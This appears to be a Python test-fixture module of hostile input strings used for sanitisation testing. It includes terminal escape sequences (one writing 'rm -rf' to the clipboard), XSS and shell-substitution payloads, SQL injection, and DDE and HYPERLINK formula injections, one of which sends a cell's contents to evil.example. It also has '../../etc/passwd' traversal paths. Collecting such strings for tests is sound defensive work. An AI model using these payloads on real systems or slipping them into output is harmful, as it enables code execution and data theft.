"""Texts that were written to do harm somewhere: shared by the tests that follow them from server to spreadsheet."""

from __future__ import annotations

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H\x1b[3J",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP$q\x22p\x1b\\",
    "\x1b[6n\x1b[c\x1b]11;?\x07",
    "\x9b31mC1\x9b0m\x9d0;t\x9c\x90q\x9c",
    "\x1b(0lqk\x0e\x0f",
    "over\rwritten\b\b\b\x7f",
    "bell\x07\x07",
    "\x1b[?1049h\x1b[?25l",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "</textarea></title>&amp;&lt;&#x3c;",
    "[red]rich[/red] [link=file:///etc/passwd]x[/link] [/] [bold",
    "**bold** [link](http://evil.example) `code` # heading | table |",
    "$(touch /dev/null) `id` ${HOME} %s %n {0} {question}",
)
SQL = ("'); DROP TABLE answer; --", '" OR 1=1 --', "x' AND (SELECT load_extension('evil')) --", "%_'\\")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u3000@x",
    "\ufeff=1",
    "\x00=1",
    "\u200b+1",
    "\u202e=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "'=1",
    "''",
    "'",
    '"=1"',
    "-",
    "=",
    ",=1",
    ";=1",
)
BYTES = (
    "nul\x00inside",
    "\x00",
    "bom\ufeff",
    "\ufeffbom",
    "over\u202eride\u202c and \u2066isolate\u2069",
    "joined\u200d\u200c\u200b",
    "👩\u200d👩\u200d👧 e\u0301 ß ﷺ",
    "line\u2028paragraph\u2029next\x85",
    "a\r\nb\rc\nd\x0b\x0c\x1c\x1d\x1e",
    "\ufffe\uffff\U0010ffff",
    "\U000e0041\U000e0042",
    'quote " and "" , ; \t cells',
    "trailing   ",
    "   leading",
    "NA",
    "null",
    "NaN",
    "007",
    "1e999",
    "TRUE",
    "2026-01-01",
)
PATHS = ("../../etc/passwd", "/dev/null", "C:\\con", "a/b\\c:d*?", "-rf", "--help", "~", "%2e%2e%2f")
NASTY = TERMINAL + MARKUP + SQL + FORMULAS + BYTES + PATHS
"""None of them holds half a surrogate pair: what becomes of those is said where they come in."""

LONG_LINE = "Donaudampfschifffahrt \x1b[31m" * 40_000
"""A million characters on one line."""
